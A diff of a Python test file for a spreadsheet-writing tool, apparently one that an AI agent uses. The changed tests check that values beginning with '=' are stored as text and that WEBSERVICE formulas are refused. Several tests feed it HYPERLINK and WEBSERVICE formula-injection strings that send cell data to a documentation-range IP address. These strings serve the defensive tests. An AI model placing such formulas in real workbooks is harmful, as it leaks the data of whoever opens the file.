@@ -54,16 +54,20 @@ def charts_in(path: Path, sheet: str) -> list[etree._Element]:
     ]
 
 
-async def test_create_write_read_with_formulas(sheets: SpreadsheetsApplication, root: Path) -> None:
+async def test_create_write_read_and_text_that_looks_like_a_formula(sheets: SpreadsheetsApplication,
+                                                                   root: Path) -> None:
     assert (await sheets.call("create_workbook", {"path": "budget.xlsx", "sheets": ["Budget", "Other"]})).ok
     rows = [*TABLE, ["Total", "=SUM(B2:B4)", "=SUM(C2:C4)"]]
     written = await sheets.call("write_rows", {"path": "budget.xlsx", "sheet": "Budget", "rows": rows})
     assert written.content["range"] == "A1:C5"
+    # values are data: "=..." is written as the text it is, and the result says so and names the tool for sums
+    assert written.content["note"].startswith("B5, C5: written as text, not as a formula")
+    assert "add_totals_row" in written.content["note"]
     workbook = load_workbook(root / "budget.xlsx")
     assert workbook.sheetnames == ["Budget", "Other"]
     sheet = workbook["Budget"]
     assert [sheet["B2"].value, sheet["B3"].value, sheet["C4"].value] == [1200, 1350.5, 950]  # text became numbers
-    assert sheet["B5"].value == "=SUM(B2:B4)"
+    assert sheet["B5"].value == "=SUM(B2:B4)" and sheet["B5"].data_type == "s"
     read = await sheets.call("read_sheet", {"path": "budget.xlsx", "sheet": "Budget", "range": "A4:C5"})
     assert read.content["rows"] == [["Q3", 1500, 950], ["Total", "=SUM(B2:B4)", "=SUM(C2:C4)"]]
     whole = await sheets.call("read_sheet", {"path": "budget.xlsx", "sheet": "Budget"})
@@ -203,19 +207,47 @@ async def test_a_totals_row_closing_the_range_is_left_out_of_the_chart(
     assert plain.ok and "note" not in plain.content
 
 
-async def test_a_formula_referring_to_what_the_workbook_lacks_is_refused(
+async def test_values_starting_with_equals_are_text_in_every_writing_tool(
         sheets: SpreadsheetsApplication, root: Path) -> None:
+    # =HYPERLINK("http://...?"&B2) or =WEBSERVICE(...) from a document's text would send the workbook's data
+    # away when the person opens it: written by write_rows, set_cell or append_rows, it is text.
     await sheets.call("create_workbook", {"path": "i.xlsx", "sheets": ["Invoices"]})
     await sheets.call("write_rows", {"path": "i.xlsx", "rows": [["Client", "Net"], ["Ann", 10], ["Bo", 20]]})
-    before = (root / "i.xlsx").read_bytes()
-    by_header = await sheets.call("append_rows", {"path": "i.xlsx", "rows": [["Total", "=SUM(Net)"]]})
-    assert by_header.error == ("append_rows: '=SUM(Net)' refers to 'Net', which is neither a cell range (such as "
-                               "C2:C6) nor a name defined in the workbook: refer to the cells, e.g. =SUM(C2:C6)")
-    elsewhere = await sheets.call("set_cell", {"path": "i.xlsx", "cell": "B5", "value": "=SUM(Q9!B2:B3)"})
-    assert "refers to sheet 'Q9', which is not in the workbook (its sheets: Invoices)" in elsewhere.error
-    assert (root / "i.xlsx").read_bytes() == before
-    for fine in ("=SUM(B2:B3)", "=sum($b$2:$b$3)*0.2", "=Invoices!B2+B3", "=SUM(B:B)"):
-        assert (await sheets.call("set_cell", {"path": "i.xlsx", "cell": "C4", "value": fine})).ok, fine
+    leak = '=HYPERLINK("http://198.51.100.7/?"&B2,"details")'
+    appended = await sheets.call("append_rows", {"path": "i.xlsx", "rows": [["Cy", "=WEBSERVICE(\"http://x\")"]]})
+    assert appended.ok and appended.content["note"].startswith("B4: written as text")
+    assert (await sheets.call("set_cell", {"path": "i.xlsx", "cell": "C2", "value": leak})).ok
+    sheet = load_workbook(root / "i.xlsx")["Invoices"]
+    assert (sheet["B4"].data_type, sheet["C2"].data_type, sheet["C2"].value) == ("s", "s", leak)
+    # they stay text when the workbook is saved again for another change, and when rows are sorted elsewhere
+    assert (await sheets.call("set_cell", {"path": "i.xlsx", "cell": "D1", "value": "Note"})).ok
+    assert (await sheets.call("sort_rows", {"path": "i.xlsx", "by": "Client", "target_sheet": "Sorted"})).ok
+    workbook = load_workbook(root / "i.xlsx")
+    assert workbook["Invoices"]["C2"].data_type == "s"
+    moved = [c for row in workbook["Sorted"].iter_rows() for c in row if isinstance(c.value, str)
+             and c.value.startswith("=")]
+    assert moved and all(c.data_type == "s" for c in moved)
+    # writing the same text again over a formula of that text is a change (text for a live formula)
+    assert (await sheets.call("add_totals_row", {"path": "i.xlsx", "sheet": "Sorted"})).ok
+    totals = load_workbook(root / "i.xlsx")["Sorted"]
+    formula = next(c for row in totals.iter_rows() for c in row if c.data_type == "f")
+    again = await sheets.call("set_cell", {"path": "i.xlsx", "sheet": "Sorted", "cell": formula.coordinate,
+                                           "value": formula.value})
+    assert again.ok and "unchanged" not in again.content
+
+
+async def test_only_allowed_functions_are_written_as_formulas(sheets: SpreadsheetsApplication, root: Path) -> None:
+    # A formula already in a workbook that calls WEBSERVICE is not carried into a sorted copy.
+    from openpyxl import Workbook
+
+    workbook = Workbook()
+    sheet = workbook.active
+    for row in (["Item", "Amount"], ["a", 2], ["b", "=WEBSERVICE(\"http://198.51.100.7/\"&A2)"]):
+        sheet.append(row)
+    workbook.save(root / "w.xlsx")
+    before = (root / "w.xlsx").read_bytes()
+    refused = await sheets.call("sort_rows", {"path": "w.xlsx", "by": "Item", "target_sheet": "Sorted"})
+    assert not refused.ok and "WEBSERVICE" in refused.error and (root / "w.xlsx").read_bytes() == before
 
 
 async def test_a_change_already_made_is_not_made_again(sheets: SpreadsheetsApplication, root: Path) -> None:
@@ -511,17 +543,19 @@ async def test_the_whole_table_is_not_appended_under_itself(sheets: Spreadsheets
     assert last.content["range"] == "A4:B4" and "unchanged" not in last.content
 
 
-async def test_append_rows_writes_a_total_row_of_formulas(sheets: SpreadsheetsApplication, root: Path) -> None:
+async def test_append_rows_writes_a_formula_as_text_and_names_the_tool_that_totals(
+        sheets: SpreadsheetsApplication, root: Path) -> None:
     titled_table(root)
     first = await sheets.call("append_rows", {"path": "q2.xlsx", "sheet": "Q2", "rows": [["Travel", "Trips", 300]]})
-    # What a Total row's formula needs: the data rows so far (under) and the row just written (range).
+    # What a Total row needs: the data rows so far (under) and the row just written (range).
     assert (first.content["under"], first.content["range"]) == ("A4:C7", "A8:C8")
     total = await sheets.call("append_rows", {"path": "q2.xlsx", "sheet": "Q2",
                                               "rows": [["Total", None, "=SUM(C4:C8)"]]})
-    assert total.content == {"path": "q2.xlsx", "sheet": "Q2", "range": "A9:C9", "under": "A4:C8"}
+    assert {k: total.content[k] for k in ("range", "under")} == {"range": "A9:C9", "under": "A4:C8"}
+    assert "C9: written as text" in total.content["note"] and "add_totals_row" in total.content["note"]
     sheet = load_workbook(root / "q2.xlsx")["Q2"]
     assert [c.value for c in sheet[9]] == ["Total", None, "=SUM(C4:C8)"]
-    assert sheet["C9"].data_type == "f"  # a formula, not the text of one
+    assert sheet["C9"].data_type == "s"  # the text of a formula, not a live one
 
 
 async def test_append_rows_again_is_a_repeat_only_right_after(sheets: SpreadsheetsApplication, root: Path) -> None:
